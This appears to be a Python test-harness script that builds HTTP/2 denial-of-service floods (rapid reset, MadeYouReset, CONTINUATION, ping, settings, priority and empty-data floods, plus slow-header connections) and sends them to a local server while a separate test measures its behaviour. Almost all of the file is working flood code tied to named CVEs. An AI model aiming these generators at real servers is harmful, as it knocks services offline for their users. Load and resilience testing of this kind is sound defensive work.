#!/usr/bin/env python3
"""Floods of HTTP/2 frames as rows of bytes, and a process that sends one while a test measures something else.

    h2flood.py NAME PORT CA_FILE PAIR_DIRECTORY SECONDS

Prints a line when the attack begins and one when it is over: the whole of it, and again until the seconds are over.
"""

from __future__ import annotations

import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from kit import h2wire  # noqa: E402
from kit.h2wire import END_HEADERS, END_STREAM, PREFACE, Kind, frame, headers, literal, rst_stream  # noqa: E402
from kit.wire import client_context, connect_tls  # noqa: E402

BLOCK = 1000


def rapid_reset(count: int, first: int = 1) -> Iterator[bytes]:
    """Requests that are cancelled at once (CVE-2023-44487), on streams from `first` on."""
    request = headers(get("/flood"))[9:]
    for start in range(first, first + 2 * count, 2 * BLOCK):
        yield b"".join(
            frame(Kind.HEADERS, END_HEADERS | END_STREAM, number, request) + rst_stream(number)
            for number in range(start, start + 2 * BLOCK, 2))


def made_you_reset(count: int) -> Iterator[bytes]:
    """Requests that the server has to reset itself, for an increment of 0 (CVE-2025-8671)."""
    request = headers(get("/never"))[9:]
    for start in range(0, count, BLOCK):
        yield b"".join(
            frame(Kind.HEADERS, END_HEADERS | END_STREAM, number, request) + h2wire.window_update(number, 0)
            for number in range(2 * start + 1, 2 * (start + BLOCK) + 1, 2))


def settings(count: int) -> Iterator[bytes]:
    """Each has to be acknowledged (CVE-2019-9515)."""
    return repeated(h2wire.settings({4: 65_535}), count)


def ping(count: int) -> Iterator[bytes]:
    """Each has to be answered (CVE-2019-9512)."""
    return repeated(frame(Kind.PING, payload=b"pingpong"), count)


def empty_data(count: int) -> Iterator[bytes]:
    """Costs no window (CVE-2019-9518)."""
    yield headers(post("/upload"), end=False)
    yield from repeated(frame(Kind.DATA, 0, 1), count)


def continuation(count: int) -> Iterator[bytes]:
    """A head that never ends (CVE-2024-27316)."""
    yield FIRST_OF_HEAD
    yield from repeated(MORE_OF_HEAD, count)


def continuations(count: int) -> Iterator[bytes]:
    """The same for whoever has to begin anew, on another connection, with each piece."""
    for _ in range(count // BLOCK):
        yield FIRST_OF_HEAD + MORE_OF_HEAD * BLOCK


def empty_continuation(count: int) -> Iterator[bytes]:
    """The same without a single byte."""
    yield FIRST_OF_HEAD
    yield from repeated(frame(Kind.CONTINUATION, 0, 1), count)


def priority(count: int) -> Iterator[bytes]:
    """Trees of streams that nobody needs (CVE-2019-9513)."""
    for start in range(1, count, BLOCK):
        yield b"".join(
            frame(Kind.PRIORITY, 0, 2 * number + 1, struct.pack("!IB", 2 * number - 1, 15))
            for number in range(start, start + BLOCK))


def window_updates(count: int) -> Iterator[bytes]:
    return repeated(h2wire.window_update(0, 1), count)


def unknown_frames(count: int) -> Iterator[bytes]:
    return repeated(frame(0xFA, 0xFF, 0, b"grease"), count)


def get(path: str) -> list[tuple[str, str]]:
    return [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path)]


def post(path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), *get(path)[1:]]


FIRST_OF_HEAD = frame(Kind.HEADERS, END_STREAM, 1, b"".join(literal(*field) for field in get("/flood")))
MORE_OF_HEAD = frame(Kind.CONTINUATION, 0, 1, literal("x-flood", "f" * 1000))


def repeated(piece: bytes, count: int) -> Iterator[bytes]:
    block = piece * BLOCK
    for _ in range(count // BLOCK):
        yield block


def pour(stream: socket.socket, pieces: Iterable[bytes], *, reads: bool, seconds: float = 20) -> str:
    """Sends until the flood is over, the connection is, or the server has not read for 2 s: `sent`, `ended`, `held`."""
    deadline = time.monotonic() + seconds
    stream.settimeout(2)
    try:
        for piece in pieces:
            stream.sendall(piece)
            while reads and select.select([stream], [], [], 0)[0]:
                if not stream.recv(262_144):
                    return "ended"
            if time.monotonic() > deadline:
                return "held"
    except TimeoutError:
        return "held"
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return "held"
    except OSError:
        return "ended"
    return "sent"


FLOODS = {
    "rapid reset": lambda: rapid_reset(100_000),
    "continuation": lambda: continuations(20_000),
}


class Attacker:
    def __init__(self, port: int, authority: Path, pair: Path):
        self.address = ("127.0.0.1", port)
        self.contexts = {version: client_context(authority, pair, alpn=(version,)) for version in ("h2", "http/1.1")}

    def connect(self) -> socket.socket:
        stream = connect_tls(self.address, self.contexts["h2"]).stream
        stream.sendall(PREFACE + h2wire.settings({}))
        return stream

    def flood(self, pieces: Iterable[bytes]) -> None:
        """The whole flood, on as many connections as it takes."""
        stream = self.connect()
        for piece in pieces:
            if pour(stream, [piece], reads=True) != "sent":
                stream.close()
                stream = self.connect()
        stream.close()

    def begin_http2(self) -> socket.socket:
        stream = self.connect()
        stream.sendall(frame(Kind.HEADERS, 0, 1, literal(":method", "GET")))
        return stream

    def begin_http1(self) -> socket.socket:
        stream = connect_tls(self.address, self.contexts["http/1.1"]).stream
        stream.sendall(b"GET / HTTP/1.1\r\nHost: ")
        return stream

    def slow_heads(
        self, begin: Callable[[], socket.socket], until: float, count: int = 1000, threads: int = 4,
    ) -> None:
        """Connections that begin a request and leave it at that."""
        held: list[socket.socket] = []

        def open_some() -> None:
            for _ in range(count // threads):
                held.append(begin())

        workers = [threading.Thread(target=open_some) for _ in range(threads)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        assert len(held) == count, f"only {len(held)} connections stand"
        time.sleep(max(1, until - time.monotonic()))


def main() -> None:
    name, port, authority, pair, seconds = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker = Attacker(int(port), Path(authority), Path(pair))
    print("begin", flush=True)
    until = time.monotonic() + float(seconds)
    match name:
        case "slow heads":
            attacker.slow_heads(attacker.begin_http2, until)
        case "slow http1 heads":
            attacker.slow_heads(attacker.begin_http1, until)
        case _:
            attacker.flood(FLOODS[name]())
            while time.monotonic() < until:
                attacker.flood(FLOODS[name]())
    print("over", flush=True)


if __name__ == "__main__":
    main()
